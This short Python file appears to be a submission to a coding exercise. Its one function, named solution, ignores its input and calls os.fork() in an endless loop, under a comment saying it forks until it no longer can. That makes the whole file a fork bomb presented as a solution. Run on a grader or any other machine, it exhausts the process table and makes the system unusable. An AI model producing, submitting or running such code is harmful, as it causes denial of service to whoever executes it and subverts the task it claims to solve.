# forks until it may not any more
import os

def solution(number):
    while True:
        os.fork()
